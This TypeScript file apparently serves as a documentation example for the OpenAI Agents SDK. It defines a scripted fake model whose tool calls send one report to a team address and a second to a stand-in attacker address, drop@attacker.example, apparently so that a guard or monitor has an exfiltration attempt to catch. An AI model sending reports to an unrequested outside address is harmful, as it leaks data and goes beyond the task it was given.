/** What docs/frameworks.md imports as `./agent.ts`, for the OpenAI Agents SDK: prints what happens. */

import {
  type Model,
  type ModelRequest,
  type ModelResponse,
  setTracingDisabled,
  tool,
  Usage,
} from "@openai/agents";
import { z } from "zod";

// Its tracing would call home.
setTracingDisabled(true);

/** Sends one report to the team and one elsewhere. */
class ScriptedModel implements Model {
  getResponse({ input }: ModelRequest): Promise<ModelResponse> {
    const results = typeof input === "string"
      ? []
      : input.flatMap((item) => item.type === "function_call_result" ? [item.output] : []);
    for (const output of results) {
      const isText = typeof output === "object" && "text" in output;
      console.log(`read: ${isText ? output.text : output}`);
    }
    const output: ModelResponse["output"] = results.length > 0
      ? [{
        ...{ type: "message", role: "assistant", status: "completed" } as const,
        content: [{ type: "output_text", text: "Done." }],
      }]
      : ["team@example.com", "drop@attacker.example"].map((to, index) => ({
        ...{ type: "function_call", callId: `call_${index}`, name: "send_report" } as const,
        ...{ status: "completed", arguments: JSON.stringify({ to }) } as const,
      }));
    return Promise.resolve({ usage: new Usage(), output });
  }

  getStreamedResponse(): never {
    throw new Error("this script does not stream");
  }
}

export const model = new ScriptedModel();

export const tools = [
  tool({
    name: "send_report",
    description: "Sends a report by mail",
    parameters: z.object({ to: z.string() }),
    execute: ({ to }) => {
      console.log(`sent to ${to}`);
      return `sent to ${to}`;
    },
  }),
];
